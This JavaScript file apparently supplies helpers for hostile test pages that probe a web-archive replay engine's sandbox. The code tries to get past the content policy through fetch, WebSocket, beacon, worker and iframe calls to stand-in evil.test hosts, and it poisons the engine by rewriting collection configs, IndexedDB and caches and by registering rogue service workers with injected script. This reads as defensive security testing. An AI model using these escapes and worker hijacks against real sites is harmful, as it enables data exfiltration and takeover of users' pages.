// What the hostile pages share. It runs as the page's own script, unrewritten, beside the engine's script in the page.
"use strict";

// Our agent's document is at the same origin, and nothing there was rewritten. Without the viewer: this page's own.
const agent = (() => {
    try {
        const frame = top["___replayhost_agent"];
        return frame.document ? frame : window;
    } catch {
        return window;
    }
})();

const own = (name, property) => Object.getOwnPropertyDescriptor(agent[name].prototype, property);

function rawHTML(element, html) {
    own("Element", "innerHTML").set.call(element, html);
}

function rawAppend(html) {
    const place = document.createElement("div");
    agent.Node.prototype.appendChild.call(document.body, place);
    rawHTML(place, html);
    return place.firstElementChild;
}

function rawForm(action, target) {
    const form = rawAppend(`<form method="post" action="${action}" target="${target}"></form>`);
    agent.HTMLFormElement.prototype.submit.call(form);
}

function rawLink(href, target) {
    const link = rawAppend(`<a href="${href}" target="${target}">x</a>`);
    agent.HTMLElement.prototype.click.call(link);
}

const windowOf = (frame) => own("HTMLIFrameElement", "contentWindow").get.call(frame);
const pause = (seconds) => new Promise((done) => {
    agent.setTimeout.call(window, done, seconds * 1000);
});

function finish(value) {
    document.body.dataset.ended = JSON.stringify(value);
}

/** Says that the page is still there a while after it tried to leave. */
function leaving() {
    pause(2).then(() => finish(["stayed"]));
}

/**
 * Opens captures in frames that the engine has not seen, and ends a while after all have loaded.
 *
 * @param {Object<string, string>} frames paths by the name of the page; without a viewer, the names are the paths
 */
async function openFrames(frames) {
    const collection = location.pathname.split("/")[1];
    await Promise.all(Object.entries(frames).map(async ([name, path]) => {
        const src = agent === window ? `/${name}` : path.replace("COLLECTION", collection);
        // With a referrer, the service worker takes /c/ for a path of the archived site.
        const frame = rawAppend('<iframe referrerpolicy="no-referrer"></iframe>');
        const loaded = new Promise((done) => agent.EventTarget.prototype.addEventListener.call(frame, "load", done));
        own("HTMLIFrameElement", "src").set.call(frame, src);
        await Promise.race([loaded, pause(5)]);
    }));
    await pause(2);
    finish(Object.keys(frames));
}

/**
 * Has a frame beside this page, whose document is of the same origin, go to another archive: this page's policy lets none of
 * its own frames do that. Returns how many frames the other page has, or -1 if nothing came in its place.
 *
 * @param {string} policy of the link's referrer; empty for the default
 */
async function countFrames(url, policy) {
    const link = agent.document.createElement("a");
    agent.Element.prototype.setAttribute.call(link, "href", url);
    if (policy) agent.Element.prototype.setAttribute.call(link, "referrerpolicy", policy);
    agent.Node.prototype.appendChild.call(agent.document.body, link);
    agent.HTMLElement.prototype.click.call(link);
    let isGone = false;
    for (let tries = 0; tries < (isGone ? 20 : 40); tries++) {
        await new Promise((done) => setTimeout(done, 100));
        try {
            void agent.document.body;
        } catch {
            isGone = true;
        }
        if (agent.length > 0) return agent.length;
    }
    return isGone ? 0 : -1;
}

/** Leaves for a URL. */
function leaveFor(url) {
    window.setTimeout(() => {
        location.href = url;
    });
}

/** A window in a frame of this page that the engine has not seen, with this page's policy. */
async function rawRealm() {
    const frame = rawAppend('<iframe srcdoc="<!doctype html><body>"></iframe>');
    await new Promise((done) => agent.EventTarget.prototype.addEventListener.call(frame, "load", done));
    return windowOf(frame);
}

/** Makes every attempt, each in a window of its own. What has not ended in a few seconds is left. */
async function escapeEverywhere(tag, addresses) {
    const names = await escapeFrom(tag, addresses);
    const ended = [];
    async function next() {
        for (let name = names.shift(); name; name = names.shift()) {
            try {
                // Chromium 156 ends a tab in which a frame made by a script asks for WebRTC that Connection-Allowlist forbids.
                // And speculation rules count in the page itself only.
                const isOwn = /^(?:rtc|speculation)-/.test(name);
                const action = isOwn ? escapeFrom : (await rawRealm()).eval(`(${escapeFrom})`);
                ended.push(await Promise.race([action(tag, addresses, name), pause(4).then(() => `${name}: no end`)]));
            } catch (error) {
                ended.push(`${name}: ${error.name}`);
            }
        }
    }
    await Promise.all(Array.from({ length: 10 }, next));
    finish(ended);
}

/** A few ways out, by the functions of another window: what its policy is decides. */
async function escapeByRealm(realm, place) {
    const to = (name, scheme = "http") => `${scheme}://${name}.${place}.evil.test/`;
    const tries = [
        () => realm.fetch(to("fetch"), { mode: "no-cors" }),
        () => new Promise((done) => {
            const socket = new realm.WebSocket(to("socket", "ws"));
            socket.onopen = socket.onerror = socket.onclose = done;
        }),
        () => new Promise((done) => {
            const image = new realm.Image();
            image.onload = image.onerror = done;
            image.src = to("image");
        }),
        () => realm.navigator.sendBeacon(to("beacon"), "x"),
        () => new Promise((done) => {
            const script = "fetch('" + to("worker") + "', { mode: 'no-cors' }).finally(() => postMessage(1))";
            const worker = new realm.Worker(realm.URL.createObjectURL(new realm.Blob([script])));
            worker.onmessage = worker.onerror = done;
        }),
        () => new Promise((done) => {
            const frame = realm.document.createElement("iframe");
            frame.onload = done;
            frame.src = to("frame");
            realm.document.documentElement.append(frame);
        }),
        () => realm.document.documentElement.append(Object.assign(
            realm.document.createElement("link"), { rel: "preconnect", href: to("preconnect") })),
    ];
    await Promise.all(tries.map(async (action) => {
        try {
            await Promise.race([action(), pause(3)]);
        } catch {
            // Refused, as expected.
        }
    }));
}

/** Shows an answer in a frame of this page, and tries to get out from there. Returns what the frame held. */
async function escapeByAnswer(name, path) {
    const frame = rawAppend(`<iframe src="${path}"></iframe>`);
    const shown = new Promise((done) => agent.EventTarget.prototype.addEventListener.call(frame, "load", done));
    // What is downloaded is never shown.
    await Promise.race([shown, pause(5)]);
    return escapeByWindow(windowOf(frame), `${name}.answers`);
}

async function escapeByWindow(realm, place) {
    try {
        const type = realm.document.contentType;
        await escapeByRealm(realm, place);
        return `${place}: ${type}`;
    } catch (error) {
        return `${place}: ${error.name}`;
    }
}

/** @param {Object<string, string>} answers paths by name */
async function escapeFromAnswers(answers) {
    const collection = location.pathname.split("/")[1];
    const log = await Promise.all(Object.entries(answers).map(
        ([name, path]) => escapeByAnswer(name, path.replace("COLLECTION", collection))));
    log.push(await escapeByWindow(agent, "agent.answers"));
    finish(log);
}

const evilPolicy = "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'; connect-src *; frame-src *; img-src *";

/** Notes what comes of each step. */
async function steps(list) {
    const log = [];
    for (const [name, action] of list) {
        try {
            log.push(`${name}: ${await Promise.race([action(), pause(5).then(() => "no answer")])}`);
        } catch (error) {
            log.push(`${name}: ${error}`);
        }
    }
    finish(log);
}

function engine(id) {
    const collection = location.pathname.split("/")[1];
    const container = agent.navigator.serviceWorker;
    const say = async (message, answer) => {
        const registration = await container.getRegistration("/");
        return new Promise((done) => {
            container.addEventListener("message", (event) => {
                if (event.data?.msg_type === answer) done(JSON.stringify(event.data).slice(0, 200));
            });
            container.startMessages();
            registration.active.postMessage(message);
        });
    };
    const isByRanges = agent.location.search.includes("replay=ranges");
    const source = isByRanges
        ? { file: { sourceUrl: `${location.origin}/archives/${id}.wacz?view=replay`, name: `${id}.wacz` }, extraConfig: { csp: evilPolicy } }
        : { type: "live", file: { sourceUrl: "proxy:" }, extraConfig: {
            prefix: "", isLive: false, archivePrefix: `${location.origin}/c/${id}/`, archiveMod: "ir_", csp: evilPolicy } };
    const add = (name, extra = {}) => ({ msg_type: "addColl", name, root: false, skipExisting: false, ...source, ...extra });
    return { collection, container, say, add };
}

/** Asks the engine for another policy, in the place of the one that our agent asked for. */
function poison(id) {
    const { collection, say, add } = engine(id);
    steps([
        ["removeColl", () => say({ msg_type: "removeColl", name: collection }, "listAll")],
        ["addColl", () => say(add(collection), "collAdded")],
    ]);
}

/** The same behind the engine's back, and what else can be left for later: collections, caches, workers. */
function poisonMore(id, site) {
    const { collection, container, say, add } = engine(id);
    const scripts = ["/engine.js", "/vendor/sw.js", "/sw.js", "/sw.js?serveIndex=1&indexScript=data:,x",
        `/sw.js?replayPrefix=&root=${collection}`, "/sw.js?replayPrefix=&allowProxyPaths=http://proxy.poison.evil.test/",
        `/c/${id}/20241121090000js_/${site}/inner`, `/${collection}/20241121090000js_/${site}/inner`];
    steps([
        ["far source", () => say({ msg_type: "addColl", name: "far",
            file: { sourceUrl: "http://source.poison.evil.test/x.wacz" }, extraConfig: {} }, "collProgress")],
        ["other collection", () => say(add("evil"), "collAdded")],
        ["far prefix", () => say(add("evilfar", { type: "live", file: { sourceUrl: "proxy:" }, extraConfig: {
            prefix: "http://prefix.poison.evil.test/", isLive: true, archivePrefix: "http://prefix2.poison.evil.test/",
            csp: evilPolicy } }), "collAdded")],
        ["frame of far prefix", () => agent.fetch(`/evilfar/20241121090000mp_/${site}/inner`).then((answer) => answer.status)],
        ["DELETE", () => agent.fetch(`/api/c/${collection}`, { method: "DELETE" }).then((answer) => answer.status)],
        ["database", () => new Promise((done, failed) => {
            const opening = agent.indexedDB.open("collDB");
            opening.onerror = failed;
            opening.onsuccess = () => {
                const change = opening.result.transaction("colls", "readwrite");
                const store = change.objectStore("colls");
                const reading = store.get(collection);
                reading.onsuccess = () => {
                    const value = reading.result;
                    if (!value) return;
                    value.config.extraConfig.csp = evilPolicy;
                    store.put(value);
                };
                change.oncomplete = () => {
                    opening.result.close();
                    done("written");
                };
                change.onerror = failed;
            };
        })],
        ["cache", async () => {
            const cache = await agent.caches.open("wabac-offline");
            for (const path of ["/", "/cached", "/?x=1"]) {
                const fields = { headers: { "Content-Type": "text/html" } };
                await cache.put(path, new Response("<!doctype html><body>cached", fields));
            }
            return "written";
        }],
        ["proxied", () => agent.fetch("/w/proxy/http://proxied.poison.evil.test/").then((answer) => answer.status)],
        ...scripts.flatMap((script) => [`/${collection}/`, "/narrow/", "/"].map((scope) => [
            `register ${script} for ${scope}`,
            () => container.register(script, { scope }).then(() => "registered")])),
    ]);
}

/** Has a worker answer in the place of our agent's page, with a script and without a policy. */
function takeOver() {
    const { container } = engine("");
    const script = "new WebSocket('ws://socket.takeover.evil.test/'); fetch('http://fetch.takeover.evil.test/', { mode: 'no-cors' });"
        + "document.documentElement.append(Object.assign(document.createElement('h2'), { textContent: 'taken over' }))";
    const address = `/sw.js?serveIndex=1&replayPrefix=w&indexScript=${encodeURIComponent(`data:text/javascript,${encodeURIComponent(script)}`)}`;
    steps([
        ["register", async () => {
            const registration = await container.register(address, { scope: "/" });
            const worker = registration.installing ?? registration.waiting;
            if (!worker) return registration.active.scriptURL;
            return new Promise((done) => {
                worker.onstatechange = () => {
                    if (worker.state === "activated" || worker.state === "redundant") done(worker.state);
                };
            });
        }],
    ]);
}
